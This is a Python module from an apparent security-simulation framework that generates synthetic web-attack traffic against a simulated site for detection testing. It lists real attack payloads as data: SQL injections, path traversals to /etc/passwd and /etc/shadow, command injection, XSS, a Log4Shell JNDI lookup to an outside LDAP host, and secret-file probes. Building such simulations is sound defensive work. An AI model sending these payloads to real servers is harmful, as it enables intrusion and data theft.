"""Web attacks: hostile requests to the web server."""

from __future__ import annotations

from infraspectre.simulation.activities import web
from infraspectre.simulation.capture import Behaviour
from infraspectre.simulation.protocols.http import BROWSER
from infraspectre.simulation.scenarios.background import lively_site
from infraspectre.simulation.site import Site

INJECTIONS = (
    "/item.php?id=1%27%20OR%20%271%27=%271", "/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/item.php?id=1;%20DROP%20TABLE%20users--", "/item.php?id=1%20AND%20SLEEP(5)--",
    "/item.php?id=-1%27%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x71,version())--%20-",
)  # fmt: skip
TRAVERSALS = (
    "/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fshadow",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/view?page=....//....//....//windows/win.ini",
)  # fmt: skip
COMMANDS = (
    "/ping?host=127.0.0.1;cat%20/etc/passwd", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?x=${jndi:ldap://192.0.2.66:1389/a}", "/cgi-bin/test.cgi?%24%28id%29",
)  # fmt: skip
PROBES = (
    "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/admin/config.php", "/server-status", "/backup.zip",
    "/actuator/health", "/api/v1/users", "/solr/admin/info/system", "/manager/html", "/xmlrpc.php",
)  # fmt: skip
SCANNERS = (
    "sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "gobuster/3.6",
)  # fmt: skip


def web_attack(
    seed: str, *, requests: int = 120, hosts: int = 6, duration_s: float = 180.0, background: bool = True
) -> Site:
    """Send injections, traversals and scanners' probes from outside to the web server."""
    site = lively_site(seed, hosts, duration_s, background)
    attacker = site.outside("host-23.provider.example", "attacker")
    behaviour = Behaviour("web attack", "web-attack", ("T1190", "T1595.002"), [attacker.ip], [site.intranet.ip])
    rng = site.derived("requests")
    with site.behaving(behaviour):
        for number in range(requests):
            at = duration_s * (0.2 + 0.6 * (number + rng.random()) / requests)
            target, agent, status = rng.choice(PROBES), rng.choice(SCANNERS), 404
            if number % 3 == 0:
                target = rng.choice(INJECTIONS + TRAVERSALS + COMMANDS)
                agent, status = rng.choice((BROWSER, SCANNERS[0])), rng.choice((200, 403, 500))
            web.attack(site, attacker, site.intranet, at, target, agent, status)
    return site
